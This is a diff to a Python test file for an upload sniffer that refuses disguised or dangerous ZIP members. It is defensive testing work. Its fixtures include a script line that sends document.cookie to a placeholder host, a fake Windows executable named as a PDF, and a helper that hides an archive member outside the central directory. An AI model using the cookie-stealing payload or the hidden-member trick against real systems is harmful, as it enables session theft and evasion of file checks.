@@ -141,6 +141,66 @@ def plain_zip() -> bytes:
     )
 
 
+# A Windows executable: DOS header whose e_lfanew (0x3C) points at the "PE" signature.
+MZ_PE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + bytes(0x3C - 16)
+    + struct.pack("<I", 0x40)
+    + b"PE\x00\x00\x4c\x01"
+    + bytes(200)
+)
+HTML_SCRIPT = b"<html><body><script>fetch('//x/?c='+document.cookie)</script></body></html>"
+SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+class Unseekable(io.RawIOBase):
+    """A sink zipfile cannot seek back in: it writes data descriptors after each member."""
+
+    def __init__(self) -> None:
+        self.data = bytearray()
+
+    def writable(self) -> bool:
+        return True
+
+    def write(self, b: bytes) -> int:  # type: ignore[override]
+        self.data += b
+        return len(b)
+
+
+def streamed_zip(
+    *members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED, zip64: bool = False
+) -> bytes:
+    """An archive written as a stream (data descriptors), as by a web export or `zip -`."""
+    sink = Unseekable()
+    with zipfile.ZipFile(sink, "w", compression=compression) as archive:
+        for name, data in members:
+            with archive.open(name, "w", force_zip64=zip64) as member:
+                member.write(data)
+    return bytes(sink.data)
+
+
+def zip_with(compression: int, *members: tuple[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def with_hidden_member(data: bytes, name: str, content: bytes) -> bytes:
+    """Insert a stored member after the last one, left out of the central directory."""
+    directory = data.index(b"PK\x01\x02")
+    size = len(content)
+    local = struct.pack(
+        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(content), size, size, len(name), 0
+    )
+    hidden = local + name.encode() + content
+    eocd = data.rindex(b"PK\x05\x06")
+    end = bytearray(data[eocd:])
+    struct.pack_into("<I", end, 16, directory + len(hidden))  # where the directory now starts
+    return data[:directory] + hidden + data[directory:eocd] + bytes(end)
+
+
 def ole2(*names: str, padding: int = 0) -> bytes:
     """An OLE2 (Office 97-2003) file whose directory holds `names`, after `padding` sectors."""
     header = bytearray(512)
@@ -429,6 +489,15 @@ REFUSED = [
     ("dossier.zip", zip_of(("lettre.pdf", PDF))[:-30], Refusal.ZIP_INVALID),
     ("dossier.zip", b"PK\x03\x04" + bytes(200), Refusal.ZIP_INVALID),
     ("dossier.zip", zip_of(), Refusal.EMPTY),
+    # what was checked must be what the central directory lists
+    ("dossier.zip", with_hidden_member(zip_of(("a.pdf", PDF)), "b.txt", TXT), Refusal.ZIP_INVALID),
+    (
+        "dossier.zip",
+        zip_of(("notes.txt", TXT)).replace(b"notes.txt", b"notes.csv", 1),  # local header only
+        Refusal.ZIP_INVALID,
+    ),
+    ("dossier.zip", zip_with(zipfile.ZIP_BZIP2, ("a.pdf", PDF)), Refusal.ZIP_METHOD_UNSUPPORTED),
+    ("dossier.zip", zip_with(zipfile.ZIP_LZMA, ("a.pdf", PDF)), Refusal.ZIP_METHOD_UNSUPPORTED),
     # nothing at all
     ("rapport.pdf", b"", Refusal.EMPTY),
 ]
@@ -474,7 +543,8 @@ def test_type_refused_message_lists_what_is_accepted() -> None:
 
 
 def test_zip_member_that_is_a_symbolic_link_is_refused() -> None:
-    link = zipfile.ZipInfo("lettre.pdf")
+    # A link's data is its target, text: named as text, only the link itself is refused.
+    link = zipfile.ZipInfo("notes.txt")
     link.create_system = 3
     link.external_attr = 0o120777 << 16
 
@@ -556,6 +626,171 @@ def test_xml_whose_prolog_fills_the_head_is_refused() -> None:
     data = b'<?xml version="1.0"?>' + b"<!-- " + b"x" * HEAD_SIZE + b" --><flux/>"
 
     assert check("flux.xml", data).reason is Refusal.TYPE_REFUSED
+
+
+# --- members of a plain archive, checked on their content ----------------------------
+
+BAD_MEMBERS = [
+    ("setup.pdf", MZ_PE),
+    ("page.txt", HTML_SCRIPT),
+    ("page.pdf", HTML_SCRIPT),
+    ("i.xml", SVG_SCRIPT),
+    ("annexe.pdf", zip_of(("setup.pdf", MZ_PE))),  # an archive disguised as a PDF
+    ("annexe.docx", zip_of(("setup.pdf", MZ_PE))),  # ... or as an office document
+    ("courrier.docx", docx(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0"))),
+    ("scan.jpg", PDF),
+]
+
+
+@pytest.mark.parametrize("chunking", CHUNKINGS)
+@pytest.mark.parametrize(("name", "data"), BAD_MEMBERS, ids=[n for n, _ in BAD_MEMBERS])
+def test_zip_member_is_refused_as_the_same_bytes_are_on_their_own(
+    name: str, data: bytes, chunking: str
+) -> None:
+    # Given bytes refused as a file on their own, as the second file of an archive
+    alone = check(name, data)
+    assert not alone.ok and alone.reason is not None
+    member_name = f"Dupont Jean/{name}"
+    for stored in (False, True):
+        archive = zip_of(
+            ("lettre.pdf", PDF), ("Dupont Jean/", b""), (member_name, data), stored=stored
+        )
+
+        # When the archive is checked
+        result = check("dossier.zip", archive, chunking)
+
+        # Then it is refused for that member, by its position, for the same reason
+        assert result.reason is Refusal.ZIP_MEMBER_REFUSED
+        assert (result.member_position, result.member_reason) == (2, alone.reason)
+        assert result.message_fr == (
+            "Archive ZIP refusée : le fichier n° 2 qu'elle contient est refusé. " + alone.message_fr
+        )
+        assert "Dupont" not in result.message_fr
+
+
+@pytest.mark.parametrize("compression", [zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
+@pytest.mark.parametrize("zip64", [False, True])
+def test_members_written_as_a_stream_are_checked_too(compression: int, zip64: bool) -> None:
+    # Given archives written with data descriptors: no size before the data
+    good = streamed_zip(
+        ("lettre.pdf", PDF), ("vide.txt", b""), ("rapport.docx", docx()), ("suivi.csv", CSV_UTF8),
+        compression=compression, zip64=zip64,
+    )  # fmt: skip
+    bad = streamed_zip(
+        ("lettre.pdf", PDF), ("vide.txt", b""), ("page.txt", HTML_SCRIPT), ("suivi.csv", CSV_UTF8),
+        compression=compression, zip64=zip64,
+    )  # fmt: skip
+    assert good[6] & 0x08
+
+    for chunking in CHUNKINGS:
+        assert check("dossier.zip", good, chunking).kind is FileKind.ZIP
+        refused = check("dossier.zip", bad, chunking)
+        assert (refused.member_position, refused.member_reason) == (3, Refusal.ACTIVE_CONTENT)
+
+
+def test_stored_member_holding_a_forged_descriptor_is_refused() -> None:
+    # Given a stored member whose data ends with what looks like its own data descriptor
+    head = b"a;b\n1;2\n"
+    forged = head + b"PK\x07\x08" + struct.pack("<III", zlib.crc32(head), len(head), len(head))
+    data = streamed_zip(("suivi.csv", forged + b"PK\x03\x04" + TXT), compression=0)
+
+    # When checked, Then the walk ends the member early and disagrees with the directory
+    assert check("dossier.zip", data).reason is Refusal.ZIP_INVALID
+
+
+def test_empty_members_and_folders_are_not_refused() -> None:
+    data = zip_of(("vide.pdf", b""), ("dossier/", b""), ("dossier/lettre.pdf", PDF))
+
+    assert check("dossier.zip", data).kind is FileKind.ZIP
+
+
+def test_refused_member_stops_the_upload_before_the_rest_of_the_archive() -> None:
+    # Given a bad first member followed by 4 MiB of a good one
+    big = PDF + random.Random(2).randbytes(4 * MiB)
+    data = zip_of(("page.txt", HTML_SCRIPT), ("annexe.pdf", big), stored=True)
+    consumed = 0
+
+    def stream() -> Iterator[bytes]:
+        nonlocal consumed
+        for at in range(0, len(data), 64 * 1024):
+            consumed += 1
+            yield data[at : at + 64 * 1024]
+
+    # When it is checked as it streams, Then the refusal comes with the first chunk
+    result = sniff("dossier.zip", stream())
+    assert result.member_reason is Refusal.ACTIVE_CONTENT
+    assert consumed == 1
+
+
+def test_zip_bomb_is_refused_after_a_bounded_amount_of_inflating(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    # Given 64 MiB of text deflated to 64 KiB, and a count of the bytes inflated
+    data = zip_of(("suivi.csv", b"a;b\n" * (16 * MiB)))
+    assert len(data) < 100 * 1024
+    inflated = 0
+    real_check = sniff_module._MemberWalk._check
+
+    def counting(self: sniff_module._MemberWalk, member: object, out: bytes) -> None:
+        nonlocal inflated
+        inflated += len(out)
+        real_check(self, member, out)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(sniff_module._MemberWalk, "_check", counting)
+
+    # When it is checked, Then it is refused once the ratio is exceeded, not at the end
+    assert check("dossier.zip", data).reason is Refusal.ZIP_TOO_COMPLEX
+    bound = sniff_module._ZIP_RATIO_ALLOWANCE + sniff_module.MAX_ZIP_RATIO * len(data)
+    assert inflated <= bound + sniff_module._INFLATE_CHUNK
+    assert inflated < 32 * MiB
+    # And a looser ratio lets it through: the ratio is what refused it
+    monkeypatch.undo()
+    assert check("dossier.zip", data, max_zip_ratio=2000).kind is FileKind.ZIP
+
+
+def test_members_are_counted_as_they_stream_by() -> None:
+    data = zip_of(*[(f"p{i}.txt", TXT) for i in range(6)])
+    sniffer = TypeSniffer("dossier.zip", max_zip_members=5)
+    sniffer.feed(data[: data.index(b"PK\x01\x02")])  # the local headers only
+
+    verdict = sniffer.early_verdict()
+    assert verdict is not None and verdict.reason is Refusal.ZIP_TOO_COMPLEX
+
+
+def test_32_mib_deflated_member_is_checked_in_bounded_memory() -> None:
+    # Given an archive streamed as it is written: 32 MiB of CSV lines in one member
+    rng = random.Random(5)
+    block = b"".join(
+        b"%d;Dupont;%d,%02d\n" % (rng.randrange(10**12), i, i % 100) for i in range(40_000)
+    )
+
+    def archive() -> Iterator[bytes]:
+        sink = Unseekable()
+        with (
+            zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_DEFLATED) as out,
+            out.open("suivi.csv", "w") as member,
+        ):
+            for _ in range(32 * MiB // len(block)):
+                member.write(block)
+                yield bytes(sink.data)
+                sink.data.clear()
+        yield bytes(sink.data)
+
+    tracemalloc.start()
+    try:
+        sniffer = TypeSniffer("dossier.zip")
+        held = 0
+        for chunk in archive():
+            sniffer.feed(chunk)
+            held = max(held, sniffer.buffered_bytes)
+        result = sniffer.finish()
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+    assert result.kind is FileKind.ZIP
+    assert held <= TAIL_SIZE + 2 * HEAD_SIZE
+    assert peak < 8 * MiB
 
 
 # --- streaming: markers across chunks, early verdicts ---------------------------------
